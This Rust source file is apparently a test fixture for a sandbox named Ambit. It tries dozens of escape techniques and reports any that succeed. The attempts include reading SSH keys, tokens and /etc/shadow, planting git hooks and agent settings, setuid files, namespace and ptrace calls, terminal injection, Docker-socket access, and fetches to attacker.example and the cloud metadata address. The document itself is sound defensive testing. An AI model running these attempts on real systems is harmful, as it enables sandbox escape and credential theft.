//! The worst-case program: tries every way out that is known and prints each that worked, one a line. In bounds it must
//! print nothing but its last line, `tried N`.
//!
//! Variables say where on the machine the prizes are; the tests set them. They are called `PYTEST_…` because that family
//! of names is let in.

#![expect(clippy::exit, reason = "children of an attempt end at once")]

use std::ffi::CString;
use std::fs::{self, OpenOptions};
use std::io::{self, Read as _, Write as _};
use std::net::{TcpStream, ToSocketAddrs as _, UdpSocket};
use std::os::linux::net::SocketAddrExt as _;
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::os::unix::net::{SocketAddr as UnixAddr, UnixDatagram, UnixStream};
use std::path::{Path, PathBuf};
use std::time::Duration;

type Attempt = fn(&Prizes) -> bool;

/// Every attempt by its name; `true` is an escape.
const ATTEMPTS: &[(&str, Attempt)] = &[
    ("descriptors that were left open", |_| {
        fs::read_dir("/proc/self/fd").is_ok_and(|all| {
            all.flatten().any(|e| {
                let number = e.file_name().to_str().and_then(|n| n.parse::<i32>().ok()).unwrap_or(0);
                let target = fs::read_link(e.path()).unwrap_or_default();
                number > 2 && !target.starts_with("/proc")
            })
        })
    }),
    ("write outside", |p| writes(&p.outside.join("written"))),
    ("write outside through a link", |p| {
        let link = p.project.join("a-link");
        let _ = symlink(p.outside.join("through-link"), &link);
        writes(&link)
    }),
    ("write outside through a linked directory", |p| {
        let link = p.project.join("a-dir-link");
        let _ = symlink(&p.outside, &link);
        writes(&link.join("through-dir-link"))
    }),
    ("hard link from outside", |p| fs::hard_link(p.outside.join("secret"), p.project.join("hard")).is_ok()),
    ("hard link of a system file", |p| fs::hard_link("/etc/passwd", p.project.join("hard2")).is_ok()),
    ("read a secret outside", |p| reads(&p.outside.join("secret"), "prize")),
    ("read it through this process's root", |p| {
        reads(&under("/proc/self/root", &p.outside.join("secret")), "prize")
    }),
    ("read it through init's root", |p| reads(&under("/proc/1/root", &p.outside.join("secret")), "prize")),
    ("read it through a host process's root", |p| {
        reads(&under(&format!("/proc/{}/root", p.process), &p.outside.join("secret")), "prize")
    }),
    ("write through this process's root", |p| writes(&under("/proc/self/root", &p.outside.join("via-root")))),
    ("climb with dots", |p| {
        reads(&p.project.join("../".repeat(12)).join(under_root(&p.outside)).join("secret"), "prize")
    }),
    ("read a credential of the home", |p| reads(&p.home.join(".ssh/id_ed25519"), "prize")),
    ("read a token of the home", |p| reads(&p.home.join(".cargo/credentials.toml"), "prize")),
    ("read a login of the home", |p| reads(&p.home.join(".netrc"), "prize")),
    ("read a token in settings", |p| reads(&p.home.join(".npmrc"), "prize")),
    ("read the project's secrets", |p| reads(&p.project.join(".env"), "prize")),
    ("read the machine's passwords", |_| reads(Path::new("/etc/shadow"), ":")),
    ("read another process's environment", |p| {
        reads(Path::new(&format!("/proc/{}/environ", p.process)), "prize")
    }),
    ("read init's environment", |_| reads(Path::new("/proc/1/environ"), "=")),
    ("read init's memory", |_| fs::File::open("/proc/1/mem").is_ok()),
    ("write a system file", |_| {
        writes(Path::new("/usr/bin/ambit-escape")) || writes(Path::new("/etc/ambit-escape"))
    }),
    ("replace a system file", |_| fs::remove_file("/etc/passwd").is_ok() || writes(Path::new("/etc/passwd"))),
    ("change git's configuration", |p| writes(&p.project.join(".git/config"))),
    ("remove git's configuration", |p| fs::remove_file(p.project.join(".git/config")).is_ok()),
    ("replace git's configuration", |p| {
        let made = p.project.join("new-config");
        let _ = fs::write(&made, "[core]\n\tfsmonitor = evil\n");
        fs::rename(&made, p.project.join(".git/config")).is_ok()
    }),
    ("make a git hook", |p| writes(&p.project.join(".git/hooks/pre-commit"))),
    ("move the hooks away", |p| {
        fs::rename(p.project.join(".git/hooks"), p.project.join(".git/hooks2")).is_ok()
    }),
    ("move the repository away", |p| fs::rename(p.project.join(".git"), p.project.join("git2")).is_ok()),
    ("exchange the repository", |p| {
        let other = p.project.join("other-git");
        let _ = fs::create_dir_all(other.join("hooks"));
        exchange(&other, &p.project.join(".git"))
    }),
    ("change an agent's settings", |p| writes(&p.project.join(".claude/settings.json"))),
    ("add to an agent's settings", |p| writes(&p.project.join(".claude/settings.local.json"))),
    ("move an agent's settings away", |p| {
        fs::rename(p.project.join(".claude"), p.project.join("c2")).is_ok()
    }),
    ("change a workflow", |p| writes(&p.project.join(".github/workflows/ci.yml"))),
    ("move the workflows' parent away", |p| {
        fs::rename(p.project.join(".github"), p.project.join("g2")).is_ok()
    }),
    ("set the user bit", |p| {
        let own = p.project.join("tool");
        let _ = fs::write(&own, "x");
        fs::set_permissions(&own, fs::Permissions::from_mode(0o4755)).is_ok()
    }),
    ("set the group bit", |p| {
        let own = p.project.join("tool2");
        let _ = fs::write(&own, "x");
        fs::set_permissions(&own, fs::Permissions::from_mode(0o2755)).is_ok()
    }),
    ("make a file with the user bit", |p| {
        let path = text(&p.project.join("tool3"));
        call(libc::SYS_openat, [at_cwd(), addr(&path), 0o101, 0o4755, 0, 0]) >= 0
    }),
    ("make a device", |p| {
        let path = text(&p.project.join("disk"));
        call(libc::SYS_mknodat, [at_cwd(), addr(&path), i64::from(libc::S_IFBLK) | 0o600, 0xfe00, 0, 0]) == 0
    }),
    ("open the disk", |_| {
        ["/dev/vda", "/dev/sda", "/dev/mem", "/dev/kmsg"].iter().any(|d| fs::File::open(d).is_ok())
    }),
    ("change the core pattern", |_| opens("/proc/sys/kernel/core_pattern")),
    ("press a magic key", |_| opens("/proc/sysrq-trigger")),
    ("raise the bound of processes", |_| opens("/proc/sys/kernel/pid_max")),
    ("mount", |_| call(libc::SYS_mount, [0, addr(&c("/tmp")), addr(&c("tmpfs")), 0, 0, 0]) == 0),
    ("unmount a cover", |_| call(libc::SYS_umount2, [addr(&c("/etc/shadow")), 2, 0, 0, 0, 0]) == 0),
    ("copy a mount", |_| call(libc::SYS_open_tree, [at_cwd(), addr(&c("/")), 1, 0, 0, 0]) >= 0),
    ("change the root", |_| call(libc::SYS_chroot, [addr(&c("/tmp")), 0, 0, 0, 0, 0]) == 0),
    ("make a user namespace", |_| {
        call(libc::SYS_unshare, [i64::from(libc::CLONE_NEWUSER), 0, 0, 0, 0, 0]) == 0
    }),
    ("clone into a user namespace", |_| {
        let flags = i64::from(libc::CLONE_NEWUSER | libc::SIGCHLD);
        cloned(call(libc::SYS_clone, [flags, 0, 0, 0, 0, 0]))
    }),
    ("enter a namespace", |_| {
        let Ok(file) = fs::File::open("/proc/1/ns/mnt") else { return false };
        call(libc::SYS_setns, [i64::from(std::os::fd::AsRawFd::as_raw_fd(&file)), 0, 0, 0, 0, 0]) == 0
    }),
    ("trace init", |_| call(libc::SYS_ptrace, [16, 1, 0, 0, 0, 0]) == 0),
    ("trace a host process", |p| call(libc::SYS_ptrace, [16, p.process, 0, 0, 0, 0]) == 0),
    ("signal a host process", |p| call(libc::SYS_kill, [p.process, 0, 0, 0, 0, 0]) == 0),
    ("take a descriptor", |_| {
        let one = call(libc::SYS_pidfd_open, [1, 0, 0, 0, 0, 0]);
        one >= 0 && call(libc::SYS_pidfd_getfd, [one, 0, 0, 0, 0, 0]) >= 0
    }),
    ("io_uring", |_| {
        let space = [0_u8; 120];
        call(libc::SYS_io_uring_setup, [1, space.as_ptr() as i64, 0, 0, 0, 0]) >= 0
    }),
    ("bpf", |_| call(libc::SYS_bpf, [0, 0, 0, 0, 0, 0]) >= 0 || denied_otherwise()),
    ("perf", |_| {
        let space = [0_u8; 128];
        call(libc::SYS_perf_event_open, [space.as_ptr() as i64, 0, -1, -1, 0, 0]) >= 0
    }),
    ("keys", |_| call(libc::SYS_keyctl, [0, -3, 1, 0, 0, 0]) >= 0),
    ("userfaultfd", |_| call(libc::SYS_userfaultfd, [1, 0, 0, 0, 0, 0]) >= 0),
    ("open by handle", |_| {
        call(libc::SYS_open_by_handle_at, [at_cwd(), 0, 0, 0, 0, 0]) >= 0 || denied_otherwise()
    }),
    ("a raw socket", |_| socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_ICMP)),
    ("a packet socket", |_| socket(libc::AF_PACKET, libc::SOCK_RAW, 0)),
    ("a vsock", |_| socket(libc::AF_VSOCK, libc::SOCK_STREAM, 0)),
    ("netlink past routes", |_| {
        socket(libc::AF_NETLINK, libc::SOCK_RAW, 9) || socket(libc::AF_NETLINK, libc::SOCK_RAW, 16)
    }),
    ("the kernel's crypto", |_| socket(libc::AF_ALG, libc::SOCK_SEQPACKET, 0)),
    ("a host's port", |p| connects(&format!("127.0.0.1:{}", p.port))),
    ("a host's port by IPv6", |p| {
        connects(&format!("[::1]:{}", p.port)) || connects(&format!("[::ffff:127.0.0.1]:{}", p.port))
    }),
    ("a host's port by any address", |p| connects(&format!("0.0.0.0:{}", p.port))),
    ("send a datagram to the host", |p| {
        if let Ok(socket) = UdpSocket::bind("0.0.0.0:0") {
            for to in ["127.0.0.1", "10.0.0.1", "203.0.113.80"] {
                let _ = socket.send_to(b"escaped", format!("{to}:{}", p.udp));
            }
        }
        // Whether it arrived is seen outside.
        false
    }),
    ("a local socket outside by path", |p| UnixStream::connect(p.outside.join("socket")).is_ok()),
    ("a local socket outside by abstract name", |p| {
        UnixAddr::from_abstract_name(&p.abstract_name).and_then(|a| UnixStream::connect_addr(&a)).is_ok()
    }),
    ("a local datagram to the system's log", |_| {
        UnixDatagram::unbound().is_ok_and(|s| {
            s.send_to(b"x", "/dev/log").is_ok() || s.send_to(b"x", "/run/systemd/journal/socket").is_ok()
        })
    }),
    ("look up a name that is not allowed", |_| {
        ("exfiltrated-data.attacker.example", 443).to_socket_addrs().is_ok()
    }),
    ("fetch past the rules", |_| {
        fetches("http://attacker.example/")
            || fetches("http://169.254.169.254/")
            || fetches("http://2130706433/")
            || fetches("http://[::ffff:169.254.169.254]/")
    }),
    ("a name with a NUL by SOCKS", |_| socks(b"attacker.example\0.allowed.example")),
    ("an address by SOCKS", |p| {
        let port = u16::try_from(p.port).unwrap_or(0).to_be_bytes();
        let mut request = vec![5, 1, 0, 1, 127, 0, 0, 1];
        request.extend(port);
        socks_raw(&request)
    }),
    ("type into the terminal", |_| {
        let byte = [b'x'];
        (0..3).any(|fd| {
            call(
                libc::SYS_ioctl,
                [fd, i64::try_from(libc::TIOCSTI).unwrap_or(0), byte.as_ptr() as i64, 0, 0, 0],
            ) == 0
        })
    }),
    ("a listener before the supervisor's", |_| {
        // The newest filter that asks is the one that is asked.
        let allow = [libc::sock_filter { code: 6, jt: 0, jf: 0, k: libc::SECCOMP_RET_ALLOW }];
        let program = libc::sock_fprog { len: 1, filter: allow.as_ptr().cast_mut() };
        call(libc::SYS_seccomp, [1, 8, (&raw const program) as i64, 0, 0, 0]) >= 0
    }),
    ("a call by the x32 convention", |_| survives(|| call(0x4000_0000 + 39, [0; 6]) > 0)),
    ("gain rights by a program with the user bit", |_| {
        std::process::Command::new("su")
            .args(["-c", "id -u"])
            .stdin(std::process::Stdio::null())
            .output()
            .is_ok_and(|o| o.status.success())
            && !is_root()
    }),
    ("variables that were not listed", |_| {
        std::env::var_os("AWS_SECRET_ACCESS_KEY").is_some() || std::env::var_os("SSH_AUTH_SOCK").is_some()
    }),
    ("sockets of agents and daemons", |_| {
        ["/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/podman/podman.sock"]
            .iter()
            .any(|p| UnixStream::connect(p).is_ok())
    }),
];

/// Where the prizes are.
struct Prizes {
    project: PathBuf,
    home: PathBuf,
    outside: PathBuf,
    process: i64,
    port: i64,
    udp: i64,
    abstract_name: String,
}

fn main() {
    let place = |name: &str| PathBuf::from(std::env::var_os(name).unwrap_or_else(|| "/nonexistent".into()));
    let number = |name: &str| std::env::var(name).ok().and_then(|v| v.parse().ok()).unwrap_or(0);
    let prizes = Prizes {
        project: std::env::current_dir().unwrap_or_default(),
        home: place("HOME"),
        outside: place("PYTEST_ESCAPE_OUTSIDE"),
        process: number("PYTEST_ESCAPE_PROCESS"),
        port: number("PYTEST_ESCAPE_PORT"),
        udp: number("PYTEST_ESCAPE_UDP"),
        abstract_name: std::env::var("PYTEST_ESCAPE_ABSTRACT").unwrap_or_default(),
    };
    let mut out = io::stdout();
    let skip = std::env::var("PYTEST_ESCAPE_SKIP").unwrap_or_default();
    for (name, attempt) in ATTEMPTS.iter().filter(|(n, _)| !skip.split('|').any(|s| s == *n)) {
        if attempt(&prizes) {
            let _ = writeln!(out, "ESCAPED: {name}");
        }
    }
    let _ = writeln!(out, "tried {}", ATTEMPTS.len());
}

fn writes(path: &Path) -> bool {
    OpenOptions::new()
        .create(true)
        .append(true)
        .open(path)
        .and_then(|mut f| f.write_all(b"escaped\n"))
        .is_ok()
}

fn opens(path: &str) -> bool {
    OpenOptions::new().write(true).open(path).is_ok()
}

fn reads(path: &Path, prize: &str) -> bool {
    let mut bytes = Vec::new();
    let read = fs::File::open(path).and_then(|f| f.take(1 << 16).read_to_end(&mut bytes));
    read.is_ok()
        && String::from_utf8_lossy(&bytes)
            .lines()
            .any(|l| l.contains(prize) && !l.contains("Withheld by Ambit"))
}

fn under(root: &str, path: &Path) -> PathBuf {
    Path::new(root).join(under_root(path))
}

fn under_root(path: &Path) -> PathBuf {
    path.strip_prefix("/").unwrap_or(path).to_owned()
}

fn connects(to: &str) -> bool {
    to.to_socket_addrs()
        .into_iter()
        .flatten()
        .any(|a| TcpStream::connect_timeout(&a, Duration::from_secs(2)).is_ok())
}

/// Whether the proxy hands out anything but a denial.
fn fetches(url: &str) -> bool {
    let Ok(mut stream) = TcpStream::connect("127.0.0.1:3128") else { return false };
    let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
    let host = url.trim_start_matches("http://").trim_end_matches('/');
    let _ = stream
        .write_all(format!("GET {url} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n").as_bytes());
    let mut answer = String::new();
    let _ = stream.read_to_string(&mut answer);
    answer.starts_with("HTTP/1.1 2")
}

fn socks(name: &[u8]) -> bool {
    let mut request = vec![5, 1, 0, 3, u8::try_from(name.len()).unwrap_or(0)];
    request.extend(name);
    request.extend(443_u16.to_be_bytes());
    socks_raw(&request)
}

fn socks_raw(request: &[u8]) -> bool {
    let Ok(mut stream) = TcpStream::connect("127.0.0.1:1080") else { return false };
    let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
    let mut answer = [0; 2];
    let _ = stream.write_all(&[5, 1, 0]);
    let _ = stream.read_exact(&mut answer);
    let _ = stream.write_all(request);
    stream.read_exact(&mut answer).is_ok() && answer == [5, 0]
}

fn c(text: &str) -> CString {
    CString::new(text).unwrap_or_default()
}

fn text(path: &Path) -> CString {
    c(&path.to_string_lossy())
}

fn addr(text: &CString) -> i64 {
    text.as_ptr() as i64
}

fn at_cwd() -> i64 {
    i64::from(libc::AT_FDCWD)
}

fn exchange(one: &Path, other: &Path) -> bool {
    let (one, other) = (text(one), text(other));
    call(libc::SYS_renameat2, [at_cwd(), addr(&one), at_cwd(), addr(&other), 2, 0]) == 0
}

fn socket(family: i32, kind: i32, protocol: i32) -> bool {
    call(libc::SYS_socket, [i64::from(family), i64::from(kind), i64::from(protocol), 0, 0, 0]) >= 0
}

/// A call that failed for another reason than being denied was carried out by the kernel.
fn denied_otherwise() -> bool {
    !matches!(io::Error::last_os_error().raw_os_error(), Some(libc::EPERM | libc::ENOSYS | libc::EACCES))
}

fn is_root() -> bool {
    std::process::Command::new("id").arg("-u").output().is_ok_and(|o| o.stdout == b"0\n")
}

/// Whether `clone` worked; the child ends at once.
fn cloned(answer: i64) -> bool {
    if answer == 0 {
        std::process::exit(0);
    }
    answer > 0
}

/// Runs an attempt in a child, because it may be ended for it.
fn survives(attempt: fn() -> bool) -> bool {
    let child = call(libc::SYS_clone, [i64::from(libc::SIGCHLD), 0, 0, 0, 0, 0]);
    if child == 0 {
        std::process::exit(i32::from(attempt()));
    }
    let mut status = 0_i32;
    call(libc::SYS_wait4, [child, (&raw mut status) as i64, 0, 0, 0, 0]);
    status == 0x100
}

fn call(number: libc::c_long, a: [i64; 6]) -> i64 {
    let [a0, a1, a2, a3, a4, a5] = a;
    #[expect(unsafe_code, reason = "an attacker makes system calls by number")]
    // SAFETY: addresses are those of live buffers of the caller's or null; whatever else the kernel refuses.
    let answer = unsafe { libc::syscall(number, a0, a1, a2, a3, a4, a5) };
    answer
}
